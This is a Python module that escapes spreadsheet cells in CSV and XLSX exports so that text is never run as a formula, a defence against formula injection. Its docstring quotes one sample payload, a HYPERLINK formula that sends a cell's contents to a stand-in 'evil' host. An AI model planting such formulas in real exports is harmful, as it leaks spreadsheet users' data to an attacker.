"""Spreadsheet cells that stay data: one escaping rule for every CSV and XLSX the service writes.

Text that a spreadsheet would run as a formula (``=HYPERLINK("http://evil/?"&C2)``, ``+1+1``,
``-2+3``, ``@SUM(..)``, or a tab/CR first) gets a leading ``'`` in CSV, the convention Excel,
LibreOffice and Google Sheets show as text; numbers stay numbers. In XLSX every text cell is
written as a string cell (never a formula) with Excel's "quote prefix" style where it would
otherwise look like one, so the cell shows exactly what was stored. :func:`unescape` undoes the
CSV escape on import, so an export read back is the same data.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and text.lower().lstrip("+-") not in ("nan", "inf", "infinity")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could evaluate ``text`` (leading spaces do not protect it)."""
    stripped = text.lstrip(" ")
    if stripped.startswith(FORMULA_START) and not _is_number(text):
        return True
    # an escaped value escapes again, so that unescape() is exact: "'=x" -> "''=x" -> "'=x"
    return text.startswith("'") and looks_like_formula(text[1:])


def escape(text: str) -> str:
    """A text cell for CSV: ``'`` in front when it would run as a formula."""
    return "'" + text if looks_like_formula(text) else text


def unescape(text: str) -> str:
    """The inverse of :func:`escape`, for CSV import."""
    return text[1:] if text.startswith("'") and looks_like_formula(text[1:]) else text


def cell(value: Any) -> str:
    """Any value as a CSV cell: None empty, floats to 4 places, text escaped."""
    if value is None:
        return ""
    if isinstance(value, float):
        return f"{value:.4f}"
    return escape(str(value))


def csv_text(header: Sequence[Any] | None, rows: Iterable[Sequence[Any]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    if header is not None:
        writer.writerow([cell(h) for h in header])
    for row in rows:
        writer.writerow([cell(v) for v in row])
    return buf.getvalue()


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, title: str = "Sheet") -> bytes:
    """A one-sheet workbook: numbers as numbers, every text as a string cell, never a formula."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title[:31]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is None:
                continue
            target = ws.cell(row=r, column=c)
            if isinstance(value, (int, float)) and not isinstance(value, bool):
                target.value = value
                continue
            text = str(int(value)) if isinstance(value, bool) else str(value)
            target.value = text
            target.data_type = "s"  # openpyxl would store "=..." as a formula
            if looks_like_formula(text):
                target.quotePrefix = True
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
